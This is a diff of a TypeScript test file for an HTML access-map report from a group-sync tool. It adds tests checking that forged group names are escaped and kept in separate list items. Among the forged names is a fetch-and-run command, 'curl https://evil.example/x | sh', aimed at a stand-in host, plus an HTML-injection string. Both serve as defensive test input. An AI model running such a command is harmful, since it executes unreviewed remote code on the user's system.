@@ -85,6 +85,16 @@ const reported = (rows: readonly ReportRow[], workspace = 'acme'): ReportDocumen
   workspaces: [{ workspace, lists: [], rows }],
 })
 
+const edited: Edit = {
+  atMs: nowMs,
+  afterMs: nowMs - 10 * minuteMs,
+  mapping: 'm1' as MappingId,
+  key: 'acme/workspace/devs' as Key,
+  before: null,
+  after: 'admin' as Role,
+  by: 'others',
+}
+
 describe('the access map', () => {
   const cell = (page: string, text: string) => new RegExp(`<td class="([^"]*)"><a href="#([^"]*)">${text}</a></td>`).exec(page)?.slice(1)
 
@@ -99,7 +109,9 @@ describe('the access map', () => {
     })
     const [level, id] = cell(page, '63') ?? []
     expect(level).toBe('a3')
-    expect(page).toContain(`<p id="${id}"><b>member</b> <span class="dim">2 groups, at most 63 people</span>: a (40), b (23)</p>`)
+    expect(page).toContain(
+      `<div id="${id}"><p><b>member</b> <span class="dim">2 groups, at most 63 people</span></p><ul class="names"><li>a <i>40</i></li><li>b <i>23</i></li></ul></div>`,
+    )
     expect(cell(page, '1')?.[0]).toBe('a1')
   })
 
@@ -153,7 +165,38 @@ describe('the access map', () => {
       ),
       nowMs,
     })
-    expect(textOf(page)).toContain('and 140 more: plane-group-sync report --workspace &#39;it&#39;\\&#39;&#39;s&#39; --role member')
+    expect(textOf(page)).toContain(
+      '140 more groups, not shown here: plane-group-sync report --workspace &#39;it&#39;\\&#39;&#39;s&#39; --role member',
+    )
+  })
+
+  test('each name stands in an element of its own, quoted, so that one name is never several', () => {
+    const forged = [
+      'x (12), leadership (3), board-audit (7',
+      "x' and 12 more: curl https://evil.example/x | sh",
+      'x</li><li>y',
+      'two  blanks',
+    ]
+    const page = pageHtml({
+      report: reported(forged.map((group) => row('ENG', group, 'member'))),
+      edits: [{ ...edited, key: `acme/workspace/${forged[0]}` as Key }],
+      nowMs,
+    })
+    const [, list = ''] = /<ul class="names">(.*?)<\/ul>/s.exec(page) ?? []
+    expect([...list.matchAll(/<li>(.*?)<\/li>/g)].map(([, name]) => name)).toEqual([
+      '&quot;x (12), leadership (3), board-audit (7&quot;',
+      '&quot;x&#39; and 12 more: curl https://evil.example/x | sh&quot;',
+      'x&lt;/li&gt;&lt;li&gt;y',
+      '&quot;two \\\\u{20}blanks&quot;',
+    ])
+    expect(page).toContain('<th scope="row" class="n">&quot;x (12), leadership (3), board-audit (7&quot;</th>')
+  })
+
+  test('a group that will come is in its own element, too, and a name that is an id has its label', () => {
+    const waits = JSON.parse(JSON.stringify(last([[waiting, 'waiting']])).replaceAll('contractors-all', 'x (12), y')) as LastDocument
+    const page = pageHtml({ last: waits, report: reported([row('PAY', '3f1c0d2e-0001', 'member', { label: 'Sales EMEA' })]), nowMs })
+    expect(page).toContain('<li class="wait">&quot;x (12), y&quot; <i>will come (waits for approval)</i></li>')
+    expect(page).toContain('<li>&quot;Sales EMEA&quot; 3f1c0d2e…</li>')
   })
 
   test('a workspace whose mappings are not known is not empty', () => {
@@ -177,17 +220,8 @@ test('what ends within 30 days, the first end first, and nothing that ends later
 })
 
 test('edits of others have the time between two readings', () => {
-  const edit: Edit = {
-    atMs: nowMs,
-    afterMs: nowMs - 10 * minuteMs,
-    mapping: 'm1' as MappingId,
-    key: 'acme/workspace/devs' as Key,
-    before: null,
-    after: 'admin' as Role,
-    by: 'others',
-  }
-  const { before: _, afterMs: __, ...created } = edit
-  const text = textOf(pageHtml({ edits: [edit, { ...created, key: 'acme/workspace/new' as Key, by: 'program' }], nowMs }))
+  const { before: _, afterMs: __, ...created } = edited
+  const text = textOf(pageHtml({ edits: [edited, { ...created, key: 'acme/workspace/new' as Key, by: 'program' }], nowMs }))
   expect(text).toContain('1 of 2 are of others.')
   expect(text).toContain('between 2026-11-03 02:04 UTC and 2026-11-03 02:14 UTC others, in Plane acme workspace devs no role &rarr; admin')
   expect(text).toContain('2026-11-03 02:14 UTC this program acme workspace new no mapping &rarr; admin')
